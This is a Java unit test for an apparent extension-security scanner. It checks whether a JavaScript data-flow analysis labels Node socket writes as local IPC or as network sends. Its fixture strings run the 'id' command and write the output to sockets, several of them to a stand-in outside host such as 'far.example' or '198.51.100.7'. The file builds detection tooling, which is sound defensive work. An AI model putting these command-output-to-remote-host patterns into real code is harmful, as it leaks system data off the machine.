package dev.vsxray.scanner.javascript.flow;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Which sockets lead to another machine. */
class SocketEndsTest {

    private static final String SENDS = "const net = require('net'), told = cp.execSync('id').toString(); %s";

    @ParameterizedTest
    @ValueSource(
            strings = {
                "net.createConnection(4121).write(told);",
                "net.connect({ port: 4122 }).write(told);",
                "net.connect({ path: '/tmp/server.sock' }, () => {}).write(told);",
                "new net.Socket().connect(4123, () => {}).write(told);",
                "net.createConnection(process.argv[3]).write(told);",
                "const pipe = process.argv.find(one => one.startsWith('--pipe='));"
                        + " net.createConnection(pipe.substring(7)).write(told);",
            })
    void staysOnThisMachineWhereNoHostIsNamed(String call) {
        assertThat(Analysis.ofActivate(SENDS.formatted(call)).flowNames())
                .containsExactly("process-output -> local-ipc");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "net.createConnection(4124, 'far.example').write(told);",
                "net.connect({ port: 4125, host: process.env.TARGET }).write(told);",
                "net.connect(JSON.parse(process.argv[3])).write(told);",
                "const socket = new net.Socket(); socket.connect({ port: 4126, host: '198.51.100.7' }); socket.write(told);",
                "require('tls').connect(4127).write(told);",
            })
    void mayLeaveWhereAHostIsOrMayBeNamed(String call) {
        assertThat(Analysis.ofActivate(SENDS.formatted(call)).flowNames()).contains("process-output -> network-send");
    }
}
